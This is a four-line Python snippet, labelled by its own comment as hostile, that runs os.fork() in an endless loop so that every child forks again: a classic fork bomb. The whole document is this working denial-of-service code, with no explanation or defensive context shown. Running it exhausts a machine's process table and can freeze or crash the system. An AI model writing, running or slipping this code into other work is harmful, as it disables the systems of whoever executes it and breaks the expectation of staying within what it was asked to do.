# hostile: fork without end (each child forks too)
import os
while True:
    os.fork()
